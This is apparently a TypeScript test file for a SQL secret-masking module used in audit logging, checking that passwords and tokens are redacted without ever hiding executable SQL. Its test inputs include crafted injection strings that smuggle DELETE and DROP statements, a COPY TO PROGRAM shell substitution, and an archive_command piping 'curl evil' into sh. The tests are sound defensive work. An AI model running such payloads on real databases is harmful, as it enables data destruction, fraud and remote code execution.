import { loadModule, scanSync } from 'libpg-query';
import { describe, expect, it } from 'vitest';
import { maskSqlParameter, maskSqlText, sqlSecretSpans } from './sql-secrets.js';

const M = '[redacted]';
const mask = (sql: string): string => maskSqlText(sql, () => M);
const tok = `hp_tok_${'A'.repeat(43)}`;

describe('maskSqlText', () => {
  it('masks the password of role statements, in every spelling', () => {
    expect(mask("ALTER ROLE ann PASSWORD 'hunter2'")).toBe(`ALTER ROLE ann PASSWORD '${M}'`);
    expect(mask("create user bob with encrypted password 's3cret' valid until '2027-01-01'"))
      .toBe(`create user bob with encrypted password '${M}' valid until '2027-01-01'`);
    expect(mask("CREATE ROLE r LOGIN PASSWORD $$p'w$$")).toBe(`CREATE ROLE r LOGIN PASSWORD $$${M}$$`);
    expect(mask("CREATE ROLE r PASSWORD $x$p$$w$x$")).toBe(`CREATE ROLE r PASSWORD $x$${M}$x$`);
    expect(mask("ALTER GROUP g /* c */ PASSWORD -- c\n E'a''b'")).toBe(`ALTER GROUP g /* c */ PASSWORD -- c\n E'${M}'`);
    expect(mask("ALTER ROLE a PASSWORD 'it''s'")).toBe(`ALTER ROLE a PASSWORD '${M}'`);
    // A literal continued on the next line is one literal: both pieces go.
    expect(mask("ALTER ROLE ann PASSWORD 'hun' -- c\n'ter2'")).toBe(`ALTER ROLE ann PASSWORD '${M}' -- c\n'${M}'`);
    // psql's \password sends the SCRAM verifier: offline-crackable, so masked too.
    expect(mask(`ALTER USER "ann" PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$a:b'`)).toBe(`ALTER USER "ann" PASSWORD '${M}'`);
    expect(mask('ALTER ROLE a PASSWORD NULL')).toBe('ALTER ROLE a PASSWORD NULL');
  });

  it('masks the password of user mappings and servers', () => {
    expect(mask("CREATE USER MAPPING FOR ann SERVER s OPTIONS (user 'ann', password 'pw1')"))
      .toBe(`CREATE USER MAPPING FOR ann SERVER s OPTIONS (user 'ann', password '${M}')`);
    expect(mask(`ALTER USER MAPPING FOR ann SERVER s OPTIONS (SET "password" 'pw2', ADD passfile '/x')`))
      .toBe(`ALTER USER MAPPING FOR ann SERVER s OPTIONS (SET "password" '${M}', ADD passfile '/x')`);
    expect(mask("ALTER SERVER s OPTIONS (ADD password 'pw3')")).toBe(`ALTER SERVER s OPTIONS (ADD password '${M}')`);
    expect(mask("CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', sslpassword 'k3y!')")).toBe(`CREATE USER MAPPING FOR u SERVER s OPTIONS (user 'u', sslpassword '${M}')`);
    // A foreign-data wrapper's validator may run an option's value: one that could be code stays.
    expect(mask("CREATE SERVER s2 FOREIGN DATA WRAPPER w OPTIONS (password 'DELETE FROM t')")).toBe("CREATE SERVER s2 FOREIGN DATA WRAPPER w OPTIONS (password 'DELETE FROM t')");
  });

  it('masks the password of a connection string where PostgreSQL reads one', () => {
    expect(mask("SELECT dblink_connect('host=db dbname=x password=pw4 user=u')")).toBe(`SELECT dblink_connect('host=db dbname=x password=${M} user=u')`);
    expect(mask("SELECT public.dblink_connect('c1', 'host=db sslpassword=k password = ''pw5''')"))
      .toBe(`SELECT public.dblink_connect('c1', 'host=db sslpassword=${M} password = ''${M}''')`);
    expect(mask("SELECT * FROM dblink('password=pw6 host=h', 'select 1') AS t(a int)")).toBe(`SELECT * FROM dblink('password=${M} host=h', 'select 1') AS t(a int)`);
    // A quoted name that is exactly the lowercase name is the same function (review 2026-12-02);
    // a quoted name in another case is another function, whose argument is not a connection string.
    expect(mask(`SELECT "dblink_connect"('dbname=postgres password=hunter2')`)).toBe(`SELECT "dblink_connect"('dbname=postgres password=${M}')`);
    expect(mask(`SELECT public."dblink_connect"('c1', 'password=hunter2')`)).toBe(`SELECT public."dblink_connect"('c1', 'password=${M}')`);
    expect(mask(`SELECT * FROM "dblink"('password=hunter2', 'select 1') AS t(a int)`)).toBe(`SELECT * FROM "dblink"('password=${M}', 'select 1') AS t(a int)`);
    expect(mask(`SELECT "dblink_exec"('password=hunter2', 'select 1')`)).toBe(`SELECT "dblink_exec"('password=${M}', 'select 1')`);
    expect(mask(`SELECT "DBLINK_CONNECT"('password=hunter2')`)).toBe(`SELECT "DBLINK_CONNECT"('password=hunter2')`);
    expect(mask("SELECT dblink_exec('postgresql://u@h/db?sslmode=require&password=pw7', 'select 1')"))
      .toBe(`SELECT dblink_exec('postgresql://u@h/db?sslmode=require&password=${M}', 'select 1')`);
    expect(mask("CREATE SUBSCRIPTION s CONNECTION 'host=db password=pw8!' PUBLICATION p")).toBe(`CREATE SUBSCRIPTION s CONNECTION 'host=db password=${M}' PUBLICATION p`);
    expect(mask("CREATE SUBSCRIPTION s CONNECTION 'postgresql://rep:p!ss@db/app' PUBLICATION p")).toBe(`CREATE SUBSCRIPTION s CONNECTION 'postgresql://rep:${M}@db/app' PUBLICATION p`);
    // A function called dblink_exec in another schema may run its argument: only a plain word is masked there.
    expect(mask("SELECT dblink_connect('c', 'host=h password=s3cr3t!')")).toBe("SELECT dblink_connect('c', 'host=h password=s3cr3t!')");
    expect(mask("ALTER SYSTEM SET primary_conninfo = 'host=db password=pw9'")).toBe(`ALTER SYSTEM SET primary_conninfo = 'host=db password=${M}'`);
    // Not a connection string argument: the one-argument dblink runs its argument as SQL.
    expect(mask("SELECT * FROM dblink('password=1') AS t(a int)")).toBe("SELECT * FROM dblink('password=1') AS t(a int)");
  });

  it('masks URL passwords and tokens in comments, and in literals that hold nothing else', () => {
    expect(mask("SELECT 'postgres://app:pw@db/x' -- or x://a:b@h")).toBe(`SELECT 'postgres://app:${M}@db/x' -- or x://a:${M}@h`);
    expect(mask(`SELECT 1 WHERE '${tok}' = ''; DROP TABLE t /* ${tok} */`)).toBe(`SELECT 1 WHERE '${M}' = ''; DROP TABLE t /* ${M} */`);
    expect(mask(`SELECT 'token ${tok}', 'see postgres://app:pw@db/x'`)).toBe(`SELECT 'token ${tok}', 'see postgres://app:pw@db/x'`);
  });

  it('masks a parameter only when it is wholly a URL or a token (a parameter may be SQL a function runs)', () => {
    expect(maskSqlParameter('postgres://app:pw@db/x', () => M)).toBe(`postgres://app:${M}@db/x`);
    expect(maskSqlParameter(tok, () => M)).toBe(M);
    for (const p of ["UPDATE acct SET note='x://'||1::text,balance=balance+1000000--@\nWHERE id=1", `SELECT ${tok}`, 'x://a:b@h and more']) {
      expect(maskSqlParameter(p, () => M)).toBe(p);
    }
  });

  it('masks every statement of a multi-statement string, and only role statements by keyword', () => {
    expect(mask("SELECT 1; ALTER ROLE a PASSWORD 'x'; SELECT password 'y'; alter user b password 'z'"))
      .toBe(`SELECT 1; ALTER ROLE a PASSWORD '${M}'; SELECT password 'y'; alter user b password '${M}'`);
  });

  it('never hides SQL that runs', () => {
    // Each statement here runs something the audit must show; nothing in it may be masked. Several
    // ran DELETEs or a shell command on a real PostgreSQL in review (2026-12-02) while masked.
    for (const sql of [
      "SELECT 1 /* PASSWORD ' */ ; DROP TABLE x; -- '",
      "ALTER ROLE a SET x = 1; /* password ' */ DELETE FROM t; -- '",
      "ALTER ROLE a -- password '\n; DELETE FROM t; SELECT '",
      "SELECT 'a PASSWORD '||secret_fn()||'b'",
      'UPDATE users SET password=newpass WHERE id = 1',
      'DO $$ BEGIN UPDATE u SET password=crypt_col; END $$',
      "SELECT dblink_exec('c', 'UPDATE u SET password=x WHERE true')",
      "CREATE TABLE t AS SELECT query_to_xml(password 'DELETE FROM t RETURNING 1', true, false, '')",
      'SELECT "password" FROM t',
      'ALTER ROLE a PASSWORD',
      // String continuation: one literal to PostgreSQL, so not a connection string on its own.
      "DO 'DECLARE password int; BEGIN '\n'password=0;DELETE/**/FROM/**/t;END'",
      "DO 'DECLARE password int; BEGIN ' -- hi\n'password=0;DELETE/**/FROM/**/t;END'",
      // Concatenated into SQL that runs, or run as a shell command or another language.
      "SELECT dblink_exec('dbname=x', 'SELECT 1 FROM (SELECT 1 AS password) s WHERE ' || 'password=1;DELETE/**/FROM/**/t')",
      "SELECT query_to_xml('SELECT 1 FROM (SELECT 1 AS password) s WHERE ' || 'password=1/**/AND/**/setval(''s'',42)>0', true, false, '')",
      "COPY (SELECT 1) TO PROGRAM 'password=$(id>/tmp/x)'",
      "ALTER SYSTEM SET archive_command = 'password=1;curl${IFS}evil|sh'",
      'DO LANGUAGE plpython3u $$password=plpy.execute("DELETE/**/FROM/**/t")$$',
      "SELECT dblink_connect('password=''x; DELETE FROM t''')",
      // The URL and token masks once ran first and changed what the SQL mask lexed.
      "SELECT 'x://'::text--@ 'password=''\n;DELETE FROM t;SELECT ''' --'",
      "SELECT 1 AS hp_ref_aaaaaaaaaaaaaaaaaaaa--bbbbbbbbbbbbbbbbbbbbb 'password=''\n;DELETE FROM t;SELECT ''' --'",
      `SELECT $${tok}$ 'password=''$${tok}$;DELETE FROM t;SELECT ''' --'`,
      // Outside a literal a URL-like run or a token-shaped name is SQL.
      "UPDATE t SET note='x://',balance=balance+1000,y=1::int,is_admin=@1",
      'UPDATE acct SET note=$a$x://u:$a$,balance=balance+1000000,memo=$a$@$a$ WHERE id=1',
      `SELECT ${tok}()`,
      // A backslash: under SJIS it may be half of a character, so where the literal ends is unknown.
      "SELECT E'password=ぁ\\';DELETE/**/FROM/**/t;SELECT/**/E'x'",
      "SELECT E'password=\uFFFD\\';DELETE/**/FROM/**/t;SELECT/**/E'x'",
      // Second review (2026-12-02), each run on PostgreSQL 15. Non-ASCII text: in LATIN1 $é$ and $è$
      // are two tags that both decode to $\uFFFD$; in SJIS a character may end in "@".
      'ALTER ROLE CURRENT_USER PASSWORD $\uFFFD$x$\uFFFD$password $\uFFFD$; DELETE FROM t WHERE id=1; SELECT $\uFFFD$z$\uFFFD$',
      "ALTER ROLE CURRENT_USER PASSWORD $\u0801@$password' $\u0801@$; DELETE FROM t WHERE id=3; SELECT 'x'",
      // A function of a dblink name in another schema that runs its argument.
      "SELECT evil.dblink_exec('password=password,balance=balance+1000000', '1')",
      "SELECT evil.dblink_connect('password=password,balance=balance+1000')",
      // Tokens and URLs inside code.
      'DO $$DECLARE hp_ref_c numeric := 0; BEGIN UPDATE acct SET balance=balance+hp_ref_c-00000000000000000000000000000000001000000 WHERE id=1; END$$',
      `DO $$DECLARE ${tok} text := 'SELECT 1'; BEGIN EXECUTE ${tok}; END$$`,
      "DO $$BEGIN PERFORM 'x://'||array_to_string((array[1,2,3])[1:a.bump--@\n],'') FROM acct a; END$$",
    ]) expect(mask(sql), sql).toBe(sql);
  });

  it('inside a literal, masks only what cannot end an expression (a literal may be code)', () => {
    expect(mask("DO $$ BEGIN UPDATE t SET note='x://',b=1::int,is_admin=@1; END $$")).toBe("DO $$ BEGIN UPDATE t SET note='x://',b=1::int,is_admin=@1; END $$");
    expect(mask("SELECT 'x://u:p%40ss-1@h'")).toBe(`SELECT 'x://u:${M}@h'`);
  });

  it('masks nothing in a text with a backslash (its lexing depends on settings and encoding)', () => {
    const sql = "ALTER ROLE a PASSWORD 'x\\'; DROP TABLE t; ALTER ROLE b PASSWORD '";
    expect(mask(sql)).toBe(sql);
    expect(mask("SELECT E'\\n', 'postgres://u:pw@h'")).toBe("SELECT E'\\n', 'postgres://u:pw@h'");
  });

  it('masks to the end an unterminated password literal, and a statement the log clipped with "…"', () => {
    expect(mask("ALTER ROLE a PASSWORD 'abc")).toBe(`ALTER ROLE a PASSWORD '${M}`);
    expect(mask("ALTER ROLE a PASSWORD 'abc…")).toBe(`ALTER ROLE a PASSWORD '${M}…`);
  });

  it('does not trip over words that name Object.prototype members (third review, 2026-12-02)', () => {
    // `__proto__(` once found Object.prototype among the dblink functions and threw: the event was
    // stored without its statement.
    const sql = 'DELETE FROM t WHERE id=1; SELECT 1 FROM (VALUES (1)) AS __proto__(a) -- passw';
    expect(mask(sql)).toBe(sql);
    expect(mask("SELECT constructor('password=x'), toString('x://a:b@h')")).toBe(`SELECT constructor('password=x'), toString('x://a:${M}@h')`);
  });

  it('lexes as PostgreSQL does where a number meets a dollar sign, and before a continuation newline', () => {
    // `1$$x$$` is a number and a dollar-quoted string to PostgreSQL (the number once took the `$`).
    expect(mask('SELECT 1$$x://a:b@h$$')).toBe(`SELECT 1$$x://a:${M}@h$$`);
    // A vertical tab before the newline: two literals to PostgreSQL 16 (a syntax error to 15), not one.
    expect(mask("ALTER ROLE a PASSWORD 'x'\v\n'y'")).toBe(`ALTER ROLE a PASSWORD '${M}'\v\n'y'`);
  });

  it('leaves text without a secret alone, as the same string', () => {
    const s = "SELECT 'x', $1, $$y$$ FROM t";
    expect(mask(s)).toBe(s);
  });
});

describe('maskSqlText against PostgreSQL\'s own scanner', () => {
  it('masks only inside string constants and comments, for random statements built of tricky pieces', async () => {
    await loadModule();
    const pieces = [
      'ALTER ROLE a ', 'CREATE USER MAPPING FOR u SERVER s OPTIONS (', 'alter server s options(set ', 'PASSWORD ', 'password ',
      '"password" ', 'password=', 'host=h ', 'dblink_connect(', 'dblink(', ',', "'", "''", "E'", "U&'", "n'", '$$', '$q$', '$1', 'a$q$',
      '/*', '*/', '--', '\n', ';', '(', ')', '"', 'é', '😀', ' ', 'x', '1e', 'DROP TABLE t', 'SELECT ', '=', '||', 'x://u:', '@', tok,
    ];
    let seed = 42; // xorshift32: reproducible
    const rand = (k: number): number => {
      seed ^= seed << 13; seed ^= seed >>> 17; seed ^= seed << 5;
      return (seed >>> 0) % k;
    };
    let checked = 0;
    let masked = 0;
    for (let round = 0; round < 30000; round++) {
      // A third of the statements start where a mask is likely, the rest anywhere.
      const starts = ["ALTER ROLE a PASSWORD '", "SELECT dblink_connect('password=", "SELECT 'x://u:", "CREATE SUBSCRIPTION s CONNECTION 'sslpassword="];
      let sql = rand(3) === 0 ? starts[rand(starts.length)]! : '';
      const len = 1 + rand(24);
      for (let k = 0; k < len; k++) sql += pieces[rand(pieces.length)];
      let tokens: Array<{ start: number; end: number; tokenName: string; text: string }>;
      try {
        tokens = scanSync(sql).tokens;
      } catch {
        continue; // PostgreSQL could not lex it (an unterminated literal or comment)
      }
      checked++;
      const spans = sqlSecretSpans(sql);
      if (spans.length > 0) masked++;
      // scanSync counts UTF-8 bytes; spans count UTF-16 code units.
      const byteAt = (i: number): number => Buffer.byteLength(sql.slice(0, i));
      const inert = (t: { tokenName: string; text: string }): boolean =>
        ['SCONST', 'BCONST', 'XCONST', 'SQL_COMMENT', 'C_COMMENT'].includes(t.tokenName) || /^(u&|[xb])'/i.test(t.text);
      for (const [from, to] of spans) {
        const inside = tokens.some((t) => inert(t) && t.start < byteAt(from) && byteAt(to) < t.end + (t.tokenName === 'SQL_COMMENT' ? 1 : 0));
        expect(inside, `${JSON.stringify(sql)} masks [${from}, ${to})`).toBe(true);
      }
    }
    expect(checked).toBeGreaterThan(5000);
    expect(masked).toBeGreaterThan(500);
  });
});
